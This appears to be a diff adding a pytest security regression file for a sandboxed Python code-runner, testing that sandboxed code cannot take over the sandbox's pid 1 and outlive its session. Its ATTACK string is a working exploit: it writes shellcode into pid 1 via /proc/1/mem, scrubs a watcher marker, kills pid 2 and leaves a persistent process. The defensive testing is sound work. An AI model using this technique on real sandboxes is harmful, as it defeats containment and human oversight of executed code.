@@ -1,0 +1,245 @@
+"""Issue 38: sandboxed code takes over its sandbox's pid 1 and outlives its session, a reset, its server.
+
+The attack, exactly: code sent to run_python opens /proc/1/mem read-write (pid 1 was bwrap's own init,
+of the sandbox's uid and dumpable; the seccomp filter denies ptrace and process_vm_writev, not this),
+blanks the watcher's mark in pid 1's argv, writes machine code where pid 1 waits in wait4 (prctl
+PR_SET_PDEATHSIG 0, then pause for ever), and kills pid 2 so that pid 1 wakes into it. It also leaves a
+survivor (a sleeping process) in the namespace. Then the session is closed, the kernel reset, or the
+server SIGKILLed: within SURVIVAL_S nothing may be left in that pid namespace (the host's /proc is
+scanned for any process whose pid namespace is the sandbox's), a bystander session keeps its state,
+and the server (or, for the SIGKILL, the bystander's server) still serves. With and without cgroups:
+without them nothing but the host's handle on pid 1 ends the namespace.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import platform
+import secrets
+import signal
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import anyio
+import pytest
+from mcp.types import CallToolResult
+
+from ..conftest import json_of, raw_stdio_server, run, server_env, text_of, wait_until
+from .conftest import BYSTANDER_VALUE, Arena, fresh_dirs, open_arena
+
+pytestmark = [pytest.mark.anyio, pytest.mark.e2e]
+
+#: How long anything of an ended sandbox may live on.
+SURVIVAL_S = 10.0
+#: prctl(PR_SET_PDEATHSIG, 0), then pause() for ever: 23 bytes of x86-64.
+X86_64 = "bf01000000 31f6 b89d000000 0f05 b822000000 0f05 ebf7"
+#: The same on arm64 (no pause there: ppoll(NULL, 0, NULL, NULL) for ever).
+AARCH64 = (
+    "200080d2 010080d2 e81480d2 010000d4 "  # x0=1 x1=0 x8=167 (prctl) svc
+    "000080d2 010080d2 020080d2 030080d2 280980d2 010000d4 faffff17"  # x0..x3=0 x8=73 (ppoll) svc; b back
+)
+PAYLOADS = {"x86_64": X86_64, "aarch64": AARCH64}
+
+ATTACK = """
+import json, os, re, subprocess
+PAYLOAD = bytes.fromhex({payload!r})
+report = {{"pidns": os.readlink("/proc/self/ns/pid"),
+          "cmdline": open("/proc/1/cmdline", "rb").read().decode("latin-1")}}
+# A survivor in the namespace, whatever becomes of the kernel.
+subprocess.Popen(["/bin/sh", "-c", "sleep 900; true", {token!r}], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+try:
+    mem = os.open("/proc/1/mem", os.O_RDWR)
+except OSError as exc:
+    report["mem"] = "refused: " + exc.strerror
+else:
+    fields = open("/proc/1/stat").read().rpartition(")")[2].split()
+    start, end = int(fields[45]), int(fields[46])  # arg_start, arg_end: pid 1's argv in its memory
+    for found in re.finditer(rb"CODERUNNER_[A-Za-z0-9_]+", os.pread(mem, end - start, start)):
+        os.pwrite(mem, b"X" * len(found.group()), start + found.start())
+    pc = int(open("/proc/1/syscall").read().split()[-1], 16)  # where pid 1 returns from wait4
+    os.pwrite(mem, PAYLOAD, pc)
+    os.close(mem)
+    report["mem"] = "written"
+    # pid 2 (this kernel) dies once this reply is out; pid 1 wakes into the payload.
+    subprocess.Popen(["/bin/sh", "-c", "sleep 1; kill -9 2"], start_new_session=True,
+                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print(json.dumps(report))
+"""
+
+
+def payload() -> str:
+    machine = platform.machine()
+    if machine not in PAYLOADS:
+        pytest.skip(f"the attack's machine code is written for x86-64 and arm64, not {machine}")
+    return PAYLOADS[machine]
+
+
+def in_namespace(pidns: str) -> list[int]:
+    """Host pids of every process whose pid namespace is `pidns` ("pid:[inode]")."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if os.readlink(entry / "ns" / "pid") == pidns:
+                    found.append(int(entry.name))
+            except OSError:
+                continue
+    return found
+
+
+def with_token(token: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if token.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                continue
+    return found
+
+
+def report_of(result: CallToolResult) -> dict[str, str]:
+    for line in reversed(text_of(result).splitlines()):
+        if line.startswith("{"):
+            return json.loads(line)
+    raise AssertionError(f"no report in: {text_of(result)[-2000:]}")
+
+
+async def nothing_left(pidns: str) -> None:
+    assert pidns.startswith("pid:["), pidns
+    assert await wait_until(lambda: not in_namespace(pidns), SURVIVAL_S), [
+        (pid, Path(f"/proc/{pid}/cmdline").read_bytes()[:80]) for pid in in_namespace(pidns)
+    ]
+
+
+async def bystander_unharmed(arena: Arena) -> None:
+    kept = await run(arena.client, "guarded", session_id=arena.bystander)
+    assert not kept.is_error and BYSTANDER_VALUE in text_of(kept), text_of(kept)
+    served = await run(arena.client, "6 * 7")
+    assert not served.is_error and text_of(served).splitlines()[0] == "42", text_of(served)
+
+
+@pytest.fixture(scope="module", params=["true", "false"], ids=["cgroups", "no-cgroups"])
+async def pid1_arena(request: pytest.FixtureRequest, host_listeners: tuple[int, str]) -> AsyncIterator[Arena]:
+    """A server with (or without) cgroups, and its bystander session."""
+    with fresh_dirs("crp-") as dirs:
+        async with open_arena(dirs, host_listeners, CODERUNNER_CGROUPS=request.param) as made:
+            yield made
+
+
+async def attack(arena: Arena, session_id: str) -> dict[str, str]:
+    token = f"survivor-{secrets.token_hex(6)}"
+    result = await run(arena.client, ATTACK.format(payload=payload(), token=token), session_id=session_id)
+    report = report_of(result)
+    assert await wait_until(lambda: len(with_token(token)) >= 1, 10), "the survivor did not start"
+    if report["mem"] == "written":
+        await anyio.sleep(2)  # pid 2 is killed a second after the reply: pid 1 now runs the payload
+    return report
+
+
+async def new_session(arena: Arena) -> str:
+    return str(json_of(await arena.client.call_tool("create_session", {}))["session_id"])
+
+
+async def test_pid_1_cannot_be_written_and_names_no_watcher(pid1_arena: Arena) -> None:
+    """Nothing in the sandbox can write its pid 1: /proc/1/mem and /proc/1/syscall are refused, and
+    signals from inside do not reach it; its command line carries no mark of the host's watcher."""
+    code = """
+import json, os, signal, time
+def attempt(fn):
+    try:
+        return ["OK", repr(fn())[:100]]
+    except OSError as exc:
+        return [type(exc).__name__, exc.strerror]
+def kill_one():
+    os.kill(1, signal.SIGKILL); time.sleep(0.2); return open("/proc/1/cmdline", "rb").read()[:40]
+print(json.dumps({
+    "mem": attempt(lambda: os.close(os.open("/proc/1/mem", os.O_RDWR))),
+    "syscall": attempt(lambda: open("/proc/1/syscall").read()),
+    "kill": attempt(kill_one),
+    "cmdline": open("/proc/1/cmdline", "rb").read().decode("latin-1"),
+}))
+"""
+    session = await new_session(pid1_arena)
+    found = report_of(await run(pid1_arena.client, code, session_id=session))
+    assert found["mem"][0] == "PermissionError", found
+    assert found["syscall"][0] == "PermissionError", found
+    assert found["kill"][0] == "OK", found  # the signal is ignored: pid 1 is still there
+    assert "CODERUNNER_SANDBOX_OF" not in found["cmdline"] and "unsetenv" not in found["cmdline"], found
+    again = await run(pid1_arena.client, "1 + 1", session_id=session)
+    assert text_of(again).splitlines()[0] == "2", text_of(again)
+    await bystander_unharmed(pid1_arena)
+
+
+async def test_a_taken_over_pid_1_dies_when_its_session_is_closed(pid1_arena: Arena) -> None:
+    session = await new_session(pid1_arena)
+    report = await attack(pid1_arena, session)
+    closed = await pid1_arena.client.call_tool("manage_sessions", {"action": "close", "session_id": session})
+    assert not closed.is_error, text_of(closed)
+    await nothing_left(report["pidns"])
+    await bystander_unharmed(pid1_arena)
+
+
+async def test_a_taken_over_pid_1_dies_when_its_kernel_is_reset(pid1_arena: Arena) -> None:
+    session = await new_session(pid1_arena)
+    report = await attack(pid1_arena, session)
+    reset = await pid1_arena.client.call_tool("manage_sessions", {"action": "reset", "session_id": session})
+    assert not reset.is_error, text_of(reset)
+    await nothing_left(report["pidns"])
+    after = await run(pid1_arena.client, "1 + 1", session_id=session)
+    assert not after.is_error and text_of(after).splitlines()[0] == "2", text_of(after)
+    await bystander_unharmed(pid1_arena)
+
+
+async def test_a_taken_over_pid_1_dies_with_its_sigkilled_server(
+    pid1_arena: Arena, request: pytest.FixtureRequest
+) -> None:
+    """The doomed server is a second one (cgroups as the arena's), driven by hand; the arena's server is
+    the bystander's."""
+    token = f"survivor-{secrets.token_hex(6)}"
+    cgroups = request.node.callspec.params["pid1_arena"]
+    with fresh_dirs("crk-") as dirs:
+        env = server_env(dirs, CODERUNNER_CGROUPS=cgroups)
+        calls: list[tuple[str, dict[str, object]]] = [
+            ("run_python", {"code": ATTACK.format(payload=payload(), token=token)})
+        ]
+        with raw_stdio_server(env, calls) as doomed:
+            assert await wait_until(lambda: len(with_token(token)) >= 1, 30), "the survivor did not start"
+            pidns = os.readlink(f"/proc/{with_token(token)[0]}/ns/pid")  # (its sh may be forking sleep: two)
+            await anyio.sleep(2)  # the payload's kill of pid 2, where the write went through
+            doomed.send_signal(signal.SIGKILL)
+            doomed.wait(timeout=10)
+            await nothing_left(pidns)
+        await bystander_unharmed(pid1_arena)
+
+
+async def test_a_sigkilled_server_whose_watcher_died_first_still_leaves_nothing(
+    pid1_arena: Arena, request: pytest.FixtureRequest
+) -> None:
+    """Each sandbox's init ends with its gate, whose only writer was the server: the watcher is not the
+    only thing between a dead server and its sandboxes."""
+    token = f"survivor-{secrets.token_hex(6)}"
+    with fresh_dirs("crw-") as dirs:
+        env = server_env(dirs, CODERUNNER_CGROUPS=request.node.callspec.params["pid1_arena"])
+        calls: list[tuple[str, dict[str, object]]] = [
+            ("run_python", {"code": ATTACK.format(payload=payload(), token=token)})
+        ]
+        with raw_stdio_server(env, calls) as doomed:
+            assert await wait_until(lambda: len(with_token(token)) >= 1, 30), "the survivor did not start"
+            pidns = os.readlink(f"/proc/{with_token(token)[0]}/ns/pid")
+            (watcher,) = [pid for pid in with_token("pid_watcher.py") if parent_of(pid) == doomed.pid]
+            os.kill(watcher, signal.SIGKILL)
+            doomed.send_signal(signal.SIGKILL)
+            doomed.wait(timeout=10)
+            await nothing_left(pidns)
+        await bystander_unharmed(pid1_arena)
+
+
+def parent_of(pid: int) -> int | None:
+    try:
+        return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
+    except (OSError, ValueError, IndexError):
+        return None
